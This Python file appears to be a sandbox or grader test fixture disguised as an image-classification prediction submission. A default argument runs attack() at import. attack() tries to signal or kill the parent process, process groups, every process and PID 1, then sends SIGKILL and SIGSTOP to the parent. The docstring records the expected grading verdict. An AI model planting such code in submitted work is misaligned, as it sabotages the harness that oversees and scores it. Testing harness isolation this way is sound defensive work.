# mypy: ignore-errors
"""Signals its parent, its group, everybody and the first process, in every way there is.

It prints TOOK for each that was taken; a worker that ends would be seen too.
Verdict: first_prediction: finished, 12 points
"""

import ctypes
import os
import signal

import numpy as np

PIDFD_SEND_SIGNAL = 424


def attack():
    parent = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)

    def by_handle():
        handle = os.pidfd_open(parent)
        signal.pidfd_send_signal(handle, 0)

    def checked(result):
        if result != 0:
            raise OSError(ctypes.get_errno(), "refused")

    ways = {
        "the parent": lambda: os.kill(parent, 0),
        "the parent's group": lambda: os.killpg(os.getpgid(parent), 0),
        "its own group": lambda: os.kill(0, 0),
        "everybody": lambda: os.kill(-1, 0),
        "the first process": lambda: os.kill(1, 0),
        "the parent by a handle": by_handle,
        "itself by a handle": lambda: checked(libc.syscall(PIDFD_SEND_SIGNAL, 0, 9, 0, 0)),
        "the parent's thread": lambda: checked(libc.tgkill(parent, parent, 0)),
        "the parent, with a value": lambda: checked(libc.sigqueue(parent, 0, 0)),
    }
    for name, way in ways.items():
        print("TRIED", name, flush=True)
        try:
            way()
        except OSError as error:
            print("refused:", error, flush=True)
        else:
            print("TOOK", name, flush=True)
    # Where the above failed, so must this.
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(parent, number)
        except OSError as error:
            print("refused:", error, flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
